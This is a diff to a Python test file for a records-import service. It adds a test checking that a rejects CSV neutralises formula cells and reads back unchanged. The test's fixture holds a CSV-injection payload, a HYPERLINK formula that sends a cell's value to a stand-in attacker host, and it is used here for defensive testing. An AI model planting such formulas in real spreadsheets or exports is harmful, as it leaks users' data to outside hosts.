@@ -95,6 +95,21 @@ def test_skip_invalid_imports_the_valid_rows_and_returns_the_rejects(actor_of):
     assert len(rows) == 5 and rows[3][0] == "" and "الاسم الأول" in rows[3][-1]
 
 
+def test_rejects_file_neutralises_formula_cells_and_reads_back_as_given(actor_of):
+    """A legacy file's cell beginning with = or @ was copied verbatim into the rejects file."""
+    from sijill.imports.readers import read_table
+
+    hostile = '=HYPERLINK("http://evil.example/"&A1)'
+    data = _csv(f"{hostile},محمد,الزوي,ذكر,31/02/1980,", "@SUM(1+9),علي,الككلي,ذكر,01/01/1980,-5")
+    report = services.do_import(actor_of("clerk"), "persons", data, "formulas.csv", skip_invalid=True)
+    rows = list(csv.reader(io.StringIO(report.rejects.decode("utf-8-sig"))))
+    assert [r[0] for r in rows[1:]] == ["'" + hostile, "'@SUM(1+9)"]
+    assert rows[2][5] == "-5"  # a plain number is no formula
+    assert not [c for r in rows for c in r if c[:1] in ("=", "+", "@", "\t", "\r")]
+    again = read_table(report.rejects)  # the corrected rejects file is given back as it was
+    assert [cells[0] for _line, cells in again.rows] == [hostile, "@SUM(1+9)"]
+
+
 def test_xlsx_file_with_aliases(actor_of):
     from openpyxl import Workbook
 
